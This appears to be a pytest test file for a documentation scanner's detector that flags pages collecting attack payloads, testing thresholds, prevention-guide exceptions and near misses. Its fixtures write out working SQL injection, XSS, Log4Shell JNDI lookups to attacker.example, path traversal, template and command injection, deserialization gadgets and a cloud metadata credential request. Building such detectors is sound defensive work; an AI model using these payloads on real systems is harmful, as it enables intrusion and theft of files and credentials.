"""payload-collection (CAC402): many payload lines of one family hold, a few warn, one or two
are an explanation; serialized gadgets hold from two. Near misses."""

from __future__ import annotations

import pytest

from mkdocs_threatpub.scanners.detectors.payload_collection import DETECTOR
from tests.detectors._attack import LONG, SPACES, fenced, scan, seconds

SQLI = [
    "' OR 1=1 -- -",
    "1' ORDER BY 3-- -",
    "-1 UNION SELECT NULL,@@version,NULL-- -",
    "1 AND SLEEP(5)",
    "1 AND updatexml(1,concat(0x7e,version()),1)",
    "' UNION ALL SELECT load_file('/etc/passwd')-- -",
    "SELECT table_name FROM information_schema.tables",
    "'; WAITFOR DELAY '0:0:5'--",
]
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(document.cookie)>",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
]
JNDI = [
    "${jndi:ldap://attacker.example/a}",
    "${jndi:rmi://attacker.example/a}",
    "${jndi:dns://attacker.example/a}",
    "${${lower:j}ndi:ldap://attacker.example/a}",
    "${${::-j}${::-n}di:ldap://attacker.example/a}",
    "${jndi:ldaps://attacker.example/a}",
]
TRAVERSAL = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "/static/..;/admin",
]
SSTI = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${T(java.lang.Runtime).getRuntime()}",
]
CMDI = ["; id", "| whoami", "&& id", "$(whoami)", "name=`id`", "; cat /etc/passwd"]


@pytest.mark.parametrize(
    ("payloads", "family"),
    [
        (SQLI, "SQL injection"),
        (XSS, "cross-site scripting"),
        (JNDI, "JNDI lookup injection"),
        (TRAVERSAL, "path traversal or file inclusion"),
        (SSTI, "template injection"),
        (CMDI, "command or code injection"),
    ],
)
def test_a_list_of_six_or_more_holds(payloads: list[str], family: str) -> None:
    hits = scan(DETECTOR, "# Notes\n\n" + fenced("\n".join(payloads)))
    assert len(hits) == 1, [h.what for h in hits]
    found = hits[0]
    assert found.strong
    assert found.rule == "CAC402"
    assert found.line == 6
    assert found.what.startswith(
        f"attack payload collection ({len(payloads)} lines with attack inputs, the first here"
    )
    assert f"{family}: " in found.what
    assert "攻击载荷集合" in found.what.zh
    for payload in payloads:
        assert payload not in found.what
        assert payload not in found.what.zh


def test_payloads_spread_over_a_page_count_together() -> None:
    page = "\n\n".join(f"Case {n}:\n\n`{payload}`" for n, payload in enumerate(SQLI))
    hits = scan(DETECTOR, page)
    assert [h.strong for h in hits] == [True]
    assert hits[0].what.startswith("attack payload collection (8 lines with attack inputs")


def test_families_add_up_and_each_is_named_with_its_first_line() -> None:
    page = fenced("\n".join(SQLI[:2])) + "\n" + fenced("\n".join(XSS[:2])) + "\n"
    page += fenced("\n".join(SSTI[:2]))
    (found,) = scan(DETECTOR, page)
    assert found.strong
    assert "(6 lines with attack inputs" in found.what
    assert "SQL injection: 2 from line 4" in found.what
    assert "cross-site scripting: 2 from line 11" in found.what
    assert "template injection: 2 from line 18" in found.what


def test_three_to_five_lines_warn() -> None:
    hits = scan(DETECTOR, fenced("\n".join(XSS[:3])))
    assert [h.strong for h in hits] == [False]
    assert hits[0].what.startswith("attack payload collection (3 lines with attack inputs")


def test_serialized_gadgets_hold_from_two() -> None:
    one = fenced(
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://a.example/x","autoCommit":true}'
    )
    two = one + fenced("!!python/object/apply:os.system ['id']")
    assert [h.strong for h in scan(DETECTOR, one)] == [False]
    assert [h.strong for h in scan(DETECTOR, two)] == [True]


TECHNIQUE = "# Widget injection\n\n## Summary\n\nText.\n\n## Methodology\n\nSend it:\n\n{}\n## Labs\n\n- a lab\n"


@pytest.mark.parametrize(
    "payload",
    [
        "{{constructor.constructor('alert(1)')()}}",
        'global.process.mainModule.require("child_process").execSync("id")',
        "user[$ne]=x&pass[$ne]=x",
        '{"alg":"none","typ":"JWT"}',
        "curl http://169.254.169.254/latest/meta-data/iam/",
    ],
)
def test_a_technique_page_holds_from_one_input(payload: str) -> None:
    (found,) = scan(DETECTOR, TECHNIQUE.format(fenced(payload)))
    assert found.strong
    assert "the headings present attack technique" in found.what
    assert payload not in found.what


def test_a_technique_page_without_attack_input_is_not_flagged() -> None:
    assert (
        scan(DETECTOR, TECHNIQUE.format(fenced("GET /index.html HTTP/1.1\nHost: example.com")))
        == []
    )


PREVENTION = (
    "# Output Encoding Prevention Cheat Sheet\n\n## Introduction\n\nText.\n\n"
    "## Prevention\n\nEncode every value.\n\n## Mitigations\n\n{}\n"
)


def test_one_example_attack_in_a_prevention_guide_is_not_flagged() -> None:
    page = PREVENTION.format("Example Attack:\n\n" + fenced("<script>alert(1)</script>"))
    assert scan(DETECTOR, page) == []


def test_a_few_examples_in_a_prevention_guide_are_not_flagged() -> None:
    page = PREVENTION.format("Do not build markup from input such as:\n\n" + fenced("\n".join(XSS)))
    assert scan(DETECTOR, page) == []


def test_inputs_shown_as_what_to_avoid_weigh_like_a_prevention_guide() -> None:
    page = "# Rails notes\n\n" + "".join(
        f"This is vulnerable, use bound parameters instead:\n\n```\n{p}\n```\n\n" for p in SQLI
    )
    assert scan(DETECTOR, page) == []


def test_a_prevention_guide_that_is_a_real_arsenal_still_holds() -> None:
    vectors = [f"<img src=x{n} onerror=alert({n})>" for n in range(45)]
    (found,) = scan(DETECTOR, PREVENTION.format(fenced("\n".join(vectors))))
    assert found.strong
    assert "prevention guidance" in found.what


def test_a_multi_line_document_is_one_input() -> None:
    xml = (
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n'
        + "".join(f'  <!ENTITY e{n} SYSTEM "file:///tmp/{n}">\n' for n in range(8))
        + "]>\n<r>&e1;</r>"
    )
    assert scan(DETECTOR, "# Parser bug\n\n" + fenced(xml, "xml")) == []


@pytest.mark.parametrize(
    "text",
    [
        # An advisory explaining the bug with one or two strings.
        "Log4j evaluates lookups such as `${jndi:ldap://attacker.example/a}` in logged messages.\n",
        "An attacker can send `' OR 1=1 --` in the `user` field; the fix uses bound parameters.\n"
        "A second example: `1 AND SLEEP(5)`.\n",
        # Ordinary SQL.
        fenced(
            "SELECT name, version() FROM pg_settings;\nSELECT COUNT(*) FROM orders WHERE paid = 1;\n"
            "SELECT a FROM t UNION SELECT b FROM u;",
            "sql",
        ),
        # Ordinary templates and paths.
        fenced(
            '<p>{{ user.name }}</p>\n<a href="../index.html">up</a>\n<img src="logo.png" onerror="fallback()">',
            "html",
        ),
        fenced("cd ../../..\nls; ls -la; echo done", "bash"),
        # Deep documentation links, and API prose about an `id` field.
        "\n".join(f"- [Guide {n}](../../../guide/part-{n}.md)" for n in range(8)) + "\n",
        "\n".join(f"The `id` of item {n} is returned; see `id` and `whoami`." for n in range(8))
        + "\n",
        # A MySQL function reference, not injected expressions.
        "| Function | Use |\n|---|---|\n"
        + "".join(
            f"| `{f}()` | see manual |\n"
            for f in (
                "SLEEP",
                "BENCHMARK",
                "LOAD_FILE",
                "UPDATEXML",
                "EXTRACTVALUE",
                "NAME_CONST",
                "GTID_SUBSET",
            )
        ),
        # Possessives before an en dash in prose.
        "The vendors' -- and the users' -- systems.\nIt's # not a comment.\nThe admins' -- view.\n",
        # The same payload line repeated in the raw text, its entity-decoded view and inline code.
        "Send `&lt;script&gt;alert(1)&lt;/script&gt;` and observe the alert.\n",
        # Detection content quotes payloads to match them: a Sigma rule, a Suricata rule set.
        fenced(
            "title: Log4Shell exploitation attempt\nlogsource:\n  category: webserver\ndetection:\n"
            "  keywords:\n" + "".join(f"    - '{p}'\n" for p in JNDI) + "  condition: keywords",
            "yaml",
        ),
        fenced(
            "\n".join(
                f'alert http any any -> any any (msg:"SQLi {n}"; content:"{p}"; sid:{n};)'
                for n, p in enumerate(SQLI)
            ),
            "text",
        ),
    ],
)
def test_near_misses(text: str) -> None:
    assert scan(DETECTOR, text) == []


@pytest.mark.parametrize(
    "text",
    [
        "' OR 1=1 -- " * (LONG // 12),
        "\n".join(["' OR 1=1 --"] * 5_000),
        "<script>" + SPACES + "alert(1)" * (LONG // 8),
        "../" * (LONG // 3),
        "${jndi:" * (LONG // 7),
        "{{" + SPACES + "x" * LONG,
        "x" * LONG,
    ],
    ids=["sqli-line", "sqli-lines", "script-spaces", "dots", "jndi", "braces", "letters"],
)
def test_pathological_input_is_linear(text: str) -> None:
    assert seconds(DETECTOR, text) < 1.0


def test_an_input_is_never_pieced_together_from_two_views() -> None:
    # a quote closing one code block and a `--` of the next inline code is no SQL comment
    page = (
        "# Tool\n\n## PoC\n\n```sh\ntool run 'a@b.example/c'\n```\n\nThe `--` ends the options.\n"
    )
    page += "\n## Exploit\n\nNothing else.\n"
    assert scan(DETECTOR, page) == []
